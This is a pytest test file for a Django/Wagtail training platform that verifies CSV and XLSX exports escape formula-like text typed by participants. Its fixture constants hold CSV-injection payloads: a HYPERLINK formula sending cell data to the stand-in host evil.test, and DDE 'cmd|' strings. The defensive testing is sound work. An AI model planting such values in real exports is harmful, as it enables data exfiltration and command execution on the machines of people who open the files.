"""Every CSV and XLSX the platform writes: text a participant typed is never a live formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from wagtail.log_actions import log

from pd_platform.spreadsheets import csv_cell
from tests import export_jobs, factories
from tests.factories import CohortFactory, EnrollmentFactory, HoursEntryFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.test/?d="&A2,"Details")'
HOSTILE_DISTRICT = "+cmd|' /C calc'!A0"
HOSTILE_SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_enrollment(facilitator):
    person = factories.participant(
        full_name=HOSTILE_NAME, district=HOSTILE_DISTRICT, school=HOSTILE_SCHOOL, email="hostile@example.org"
    )
    enrollment = EnrollmentFactory(cohort=CohortFactory(facilitators=[facilitator]), user=person)
    HoursEntryFactory(enrollment=enrollment, hours_beyond_contract=Decimal("-1.00"))
    return enrollment


def csv_rows(body):
    return list(csv.reader(io.StringIO(body)))


def assert_escaped(row):
    assert "'" + HOSTILE_NAME in row
    assert "'" + HOSTILE_DISTRICT in row
    assert "'" + HOSTILE_SCHOOL in row
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ada", "Ada"),
        ("", ""),
        (Decimal("-1.00"), Decimal("-1.00")),
        (3, 3),
        (None, None),
    ],
)
def test_text_cells_that_would_start_a_formula_are_escaped_and_numbers_kept(value, expected):
    assert csv_cell(value) == expected


def test_hours_csv_escapes_text_and_keeps_numbers(client, program_admin, hostile_enrollment):
    client.force_login(program_admin)
    body = b"".join(client.get("/reports/hours/", {"format": "csv"}).streaming_content).decode("utf-8-sig")
    row = next(r for r in csv_rows(body) if r[0] == "hostile@example.org")
    assert_escaped(row)
    assert row[9] == "-1.00"  # hours beyond contract: a number, not text: left alone


def test_hours_xlsx_stores_text_as_text_never_as_a_formula(client, program_admin, hostile_enrollment):
    client.force_login(program_admin)
    data = b"".join(client.get("/reports/hours/", {"format": "xlsx"}).streaming_content)
    assert formulas_outside_the_totals_row(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == "hostile@example.org")
    assert row[1].value == HOSTILE_NAME and row[1].data_type == "s"
    assert row[2].value == HOSTILE_DISTRICT and row[2].data_type == "s"
    assert row[9].data_type == "n"


def formulas_outside_the_totals_row(data):
    """Cells read as formulas, except the report's own totals row (the last): none may come from people's text."""
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    assert rows[-1][0].value == "Total (the rows shown)"
    assert all(str(c.value).startswith("=SUBTOTAL(109,") for c in rows[-1] if c.data_type == "f")
    return [c.coordinate for row in rows[:-1] for c in row if c.data_type == "f"]


def test_hours_report_command_escapes_csv_and_xlsx(tmp_path, hostile_enrollment):
    call_command("training_hours_report", "--format", "csv", "--output", str(tmp_path / "hours.csv"))
    row = next(
        r for r in csv_rows((tmp_path / "hours.csv").read_text(encoding="utf-8-sig")) if r[0] == "hostile@example.org"
    )
    assert_escaped(row)
    call_command("training_hours_report", "--format", "xlsx", "--output", str(tmp_path / "hours.xlsx"))
    assert formulas_outside_the_totals_row((tmp_path / "hours.xlsx").read_bytes()) == []


def test_gradebook_csv_escapes_names(client, facilitator, hostile_enrollment):
    client.force_login(facilitator)
    url = f"/cohorts/{hostile_enrollment.cohort_id}/gradebook/?format=csv"
    body = export_jobs.content(client, client.get(url)).decode("utf-8-sig")
    row = next(r for r in csv_rows(body) if r[0] == "hostile@example.org")
    assert row[1] == "'" + HOSTILE_NAME


def test_wagtail_admin_csv_exports_escape_names_too(client, program_admin, hostile_enrollment):
    log(instance=hostile_enrollment.user, action="wagtail.edit", user=program_admin)
    client.force_login(program_admin)
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    rows = csv_rows(b"".join(response.streaming_content).decode())
    assert any("'" + HOSTILE_NAME in row for row in rows)
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_the_users_export_escapes_names_in_csv_and_keeps_them_text_in_xlsx(client, program_admin, hostile_enrollment):
    client.force_login(program_admin)
    body = b"".join(client.get("/admin/users/", {"export": "csv"}).streaming_content).decode("utf-8-sig")
    row = next(r for r in csv_rows(body) if r[1] == "hostile@example.org")
    assert_escaped(row)
    data = b"".join(client.get("/admin/users/", {"export": "xlsx"}).streaming_content)
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows())
    assert [c.coordinate for row in rows for c in row if c.data_type == "f"] == []
    row = next(r for r in rows if r[1].value == "hostile@example.org")
    assert row[0].value == HOSTILE_NAME and row[0].data_type == "s"
    assert row[3].value == HOSTILE_DISTRICT and row[3].data_type == "s"
